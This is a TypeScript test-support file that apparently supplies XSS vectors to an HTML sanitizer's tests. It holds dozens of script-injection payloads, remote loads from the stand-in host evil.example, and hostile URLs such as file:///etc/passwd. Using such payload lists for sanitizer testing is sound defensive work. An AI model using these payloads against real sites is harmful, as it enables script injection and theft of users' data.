// Hostile markup: the project's own list, and, where ../shared is, half of two public corpora.
import { origin } from '../support/server/client.js';

const own = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</p><script>alert(1)//',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`y" onerror="alert(1)"',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 800w" src=data:,>',
  '<img data-src="javascript:alert(1)" src=about:blank>',
  '<img src=x id=body name=cookie class="link" part="link" style="position:fixed;inset:0" is=x slot=heading>',
  '<picture><source srcset="//evil.example/a"><img src=/ok.png></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvA&#x09;script&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="filesystem:http://x/">x</a>',
  '<a href="view-source:http://x/">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="http:&#10;//x" ping="//evil.example" target=opener download rel=opener onclick=alert(1)>x</a>',
  '<a href=//x><svg><a xlink:href="javascript:alert(1)">y',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/&quot;onload=alert(1)" title="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="javascript:alert(1)"><p>x</object>',
  '<embed src="javascript:alert(1)">',
  '<video src=//evil.example/v poster="javascript:alert(1)" onerror=alert(1) autoplay>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<style>@import "//evil.example/x.css"; *{background:url(//evil.example/y)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<p style="background:url(//evil.example/z)">x</p>',
  '<div style="position:fixed;inset:0;z-index:9">x</div>',
  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=//evil.example/i>',
  '<details open ontoggle=alert(1)>x',
  '<body onload=alert(1) background=//evil.example/b>',
  '<table background=//evil.example/t><td background=//evil.example/u colspan=99999999 rowspan=-1>x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)><option>x',
  '<template><script>alert(1)</script></template>',
  '<slot name=heading>x</slot>',
  '<berita-artikel feed-url=//evil.example/f>x</berita-artikel>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--?lit$123$--><b @click=${alert(1)}>x</b>',
  '<b lit$123$="1" .innerHTML="<img src=x onerror=alert(1)>">x</b>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u2028<script>\u2029alert(1)</script>',
  '<p\0onclick=alert(1)>x</p\0>',
  '<__proto__>x</__proto__>',
  '<constructor tostring=x>x',
  '<blockquote class=twitter-tweet><a href="javascript:alert(1)//twitter.com/a/status/1">x</a></blockquote>',
  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
  '<h1 onclick=alert(1)>x</h1><h6 id=__proto__>y</h6>',
  '<ol start="javascript:1" type=I reversed><li value=x>x',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\x01javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:x',
  'blob:https://x/1',
  'file:///etc/passwd',
  'ftp://x.example/',
  '//u:p@evil.example/',
  'https://bank.example@evil.example',
  'http:/\\evil.example',
  'https://[::1',
  'about:blank',
  'mailto:x@y',
  'view-source:http://x',
  'https://berita.example/"onmouseover="alert(1)',
  "https://berita.example/'><script>alert(1)</script>",
];

interface Corpus {
  source: string;
  id: string;
  html: string;
}

/** All vectors; the shared half too, where it is. */
export async function vectors(): Promise<string[]> {
  const answer = await fetch(`${origin}/shared/corpora/xss/vectors.json`);
  if (!answer.ok) console.warn("../shared is not here: only the project's own hostile markup is tried.");
  const shared = answer.ok ? ((await answer.json()) as Corpus[]) : [];
  return [...own, ...shared.map(({ html }) => html)];
}

/** Hostile addresses: a list, and every attribute value of the vectors that has a colon or slashes. */
export function hostileAddresses(markup: string[]): string[] {
  const found = markup.flatMap((html) =>
    [...html.matchAll(/=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/g)].map(([, a, b, c]) => a ?? b ?? c ?? ''),
  );
  return [...new Set([...addresses, ...found.filter((value) => /[:/\\]/.test(value) && value.length < 400)])];
}
